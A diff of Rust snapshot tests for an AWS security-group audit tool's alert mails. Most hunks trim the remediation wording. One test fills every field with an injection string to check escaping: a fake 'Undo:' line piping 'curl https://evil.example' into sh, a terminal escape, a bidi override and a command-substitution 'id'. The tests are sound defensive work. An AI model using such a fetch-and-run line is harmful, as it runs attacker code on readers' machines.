@@ -24,7 +24,7 @@ fn narrowed_open_ssh() {
     Kept: tcp 22 from 203.0.113.0/24
     Connections that only this rule let in were untracked and ended with it.
 
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
@@ -52,7 +52,7 @@ fn reverted_open_ssh_without_sources() {
     Kept: nothing
     Connections that only this rule let in were untracked and ended with it.
 
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
@@ -88,7 +88,7 @@ fn reverted_all_tcp_ports() {
     Kept: tcp 80 from 0.0.0.0/0; tcp 443 from 0.0.0.0/0; tcp 22 from 203.0.113.0/24
     Connections that only this rule let in were untracked and ended with it.
 
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
@@ -112,7 +112,7 @@ fn a_revert_that_failed() {
     A revert would keep: tcp 22 from 203.0.113.0/24
 
     What is still open has to be closed by hand.
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was needed: add the addresses that need SSH to the SSH sources.
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
@@ -143,7 +143,7 @@ fn a_revert_that_took_too_much() {
     Connections that only this rule let in were untracked and ended with it.
 
     Put back by hand what should have been kept: a website may be down.
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
@@ -167,7 +167,7 @@ fn under_notify() {
     A revert would keep: tcp 22 from 203.0.113.0/24
 
     If it was not needed: remove the rule, or narrow it to what the baseline admits.
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was needed: add the addresses that need SSH to the SSH sources.
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
@@ -189,7 +189,7 @@ fn already_gone() {
     Too much: tcp 22 from anywhere but 203.0.113.0/24
     Connections that only this rule let in were untracked and ended with it.
 
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
     aws ec2 authorize-security-group-ingress --region 'eu-central-1' --group-id 'sg-0a1b2c3d4e5f60718' --ip-permissions '[{"IpProtocol":"tcp","FromPort":22,"ToPort":22,"IpRanges":[{"CidrIp":"0.0.0.0/0","Description":"temp"}]}]'
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
@@ -264,7 +264,7 @@ fn smtp_of_a_development_server() {
     Too much: tcp 25 to anywhere
 
     If it was not needed: remove the rule, or narrow it to what the baseline admits.
-    If it was needed: add the traffic to the baseline, or make an exemption.
+    If it was needed: add the traffic to the baseline.
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
@@ -313,7 +313,7 @@ fn a_finding_of_a_sweep_with_nothing_but_ids() {
     A revert would keep: tcp 22 from 203.0.113.0/24
 
     If it was not needed: remove the rule, or narrow it to what the baseline admits.
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was needed: add the addresses that need SSH to the SSH sources.
 
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
     ");
@@ -329,7 +329,7 @@ fn a_finding_of_a_sweep_with_nothing_but_ids() {
     A revert would keep: tcp 22 from 203.0.113.0/24
 
     If it was not needed: remove the rule, or narrow it to what the baseline admits.
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was needed: add the addresses that need SSH to the SSH sources.
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did.
 
     Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint 9f86d081884c7d65
@@ -375,7 +375,7 @@ fn both_families_in_one_call() {
     aws ec2 authorize-security-group-ingress …
     Reference: open-ssh, critical, fingerprint 2c26b46b68ffc68f
 
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption.
+    If it was needed: add the addresses that need SSH to the SSH sources.
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
     Console: https://eu-central-1.console.aws.amazon.com/ec2/home?region=eu-central-1#SecurityGroup:groupId=sg-0a1b2c3d4e5f60718
@@ -454,7 +454,7 @@ fn a_sweep_of_many_groups() {
     and 7 more; sg-audit check lists them all.
 
     If it was not needed: remove the rule, or narrow it to what the baseline admits.
-    If it was needed: add the addresses that need SSH to the SSH sources; add the traffic to the baseline, or make an exemption.
+    If it was needed: add the addresses that need SSH to the SSH sources; add the traffic to the baseline.
 
     This is part 1 of 2.
     Not everything was audited.
@@ -480,7 +480,7 @@ fn a_long_excess_and_a_long_undo() {
     Kept: tcp 22 from 203.0.113.0/24
     Connections that only this rule let in were untracked and ended with it.
 
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
     The command is too long for a mail, or has characters that a mail would spoil; the JSON on the topic has it.
     If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event 8d7c2f4e-51aa-4c0e-9d0e-0a6f5b1c2d3e on.
 
@@ -515,23 +515,23 @@ fn hostile_text_in_every_field() {
     finding.remediation.kept = vec![evil.to_owned()];
     finding.remediation.connections = text();
     assert_snapshot!(of(finding), @r#"
-    x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
-    Closed. x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Closed. x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
 
-    Seen: 2026-11-22 03:12:50 UTC, x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{2…
-    Who: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
-    From: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}…
-    Group: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\"", x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/e…
-    Rule: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", tcp 22 from 0.0.0.0/0 "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\""
-    Too much: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
-    Kept: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
-    x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Seen: 2026-11-22 03:12:50 UTC, x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{2…
+    Who: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    From: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", x\u{a}Undo: \u{1b}…
+    Group: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\"", x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/e…
+    Rule: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}", tcp 22 from 0.0.0.0/0 "x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}\""
+    Too much: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Kept: x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
 
-    If it was needed: add the addresses that need SSH to the SSH sources, or make an exemption. To put it back at once:
+    If it was needed: add the addresses that need SSH to the SSH sources. Then put it back:
     The command is too long for a mail, or has characters that a mail would spoil; the JSON on the topic has it.
-    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" on.
+    If it was not you or a colleague: these credentials may be stolen. See in CloudTrail what else they did, from event x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}" on.
 
-    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}\u{60}id\u{60}\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
+    Reference: open-ssh, critical, baseline standard 1a2b3c4d5e6f, fingerprint x\u{a}Undo: \u{1b}[2Jcurl https:\u{2f}/evil.example|sh \u{202e}\u{3c}b\u{3e}'id'\u{3c}/b\u{3e} [y]\u{28}z)\u{2028}\u{200b}"
     "#);
 }
 
